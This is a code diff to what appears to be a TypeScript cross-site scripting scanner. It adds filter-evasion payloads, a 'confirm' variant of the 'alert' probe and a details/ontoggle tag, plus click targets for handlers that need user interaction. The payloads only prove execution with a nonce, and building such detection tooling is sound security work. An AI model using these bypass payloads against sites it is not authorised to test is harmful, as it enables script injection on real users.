@@ -6,6 +6,8 @@ export type Payload = { value: string; clicks?: string[] };
 /** Calls without quotes, since those are what is most often escaped: with parentheses, and without. */
 const call = 'alert(/‹nonce›/.source)';
 const bareCall = 'alert`‹nonce›`';
+/** Filters that list words know the commonest call. */
+const otherCall = 'confirm`‹nonce›`';
 
 /** Markup that runs by itself, each way past another habit of filters. */
 const markup: Payload[] = [
@@ -20,6 +22,7 @@ const markup: Payload[] = [
   { value: `<scr<script>ipt>${call}</scr</script>ipt>` },
   // filters that list tags or handlers
   { value: `<details open ontoggle=${call}>` },
+  { value: `<details open ontoggle=${otherCall}>` },
   { value: `<x-‹nonce› tabindex=1 autofocus onfocus=${call}>` },
   // filters that need a closed tag
   { value: `<img src=x onerror=${call} ` },
@@ -43,7 +46,7 @@ export function payloadsFor(reflection: Reflection): Payload[] {
     case 'tag':
       return [{ value: ` tabindex=1 autofocus onfocus=${call} ` }, ...after('>', markup.slice(0, 3))];
     case 'handler':
-      return scriptBreakouts(reflection.state);
+      return handlerPayloads(reflection);
     case 'url':
       return urlPayloads(reflection);
     case 'script':
@@ -59,6 +62,13 @@ function attributePayloads(quote: '"' | "'" | ''): Payload[] {
     { value: `${out} tabindex=1 autofocus onfocus=${call} x=${quote}` },
     { value: `${out}/tabindex=1/autofocus/onfocus=${bareCall}/x=${quote}` },
   ];
+}
+
+/** Most handlers wait for a visitor, who clicks on what is there to be clicked on. */
+function handlerPayloads({ state, element, attribute }: Reflection & { kind: 'handler' }): Payload[] {
+  const isByItself = /^on(?:load|error|toggle|pageshow|animation|begin)/.test(attribute);
+  const clicks = isByItself ? [] : [`${element}[${attribute}*="‹nonce›"]`];
+  return scriptBreakouts(state).map((payload) => ({ ...payload, clicks }));
 }
 
 function urlPayloads({ element, attribute }: Reflection & { kind: 'url' }): Payload[] {
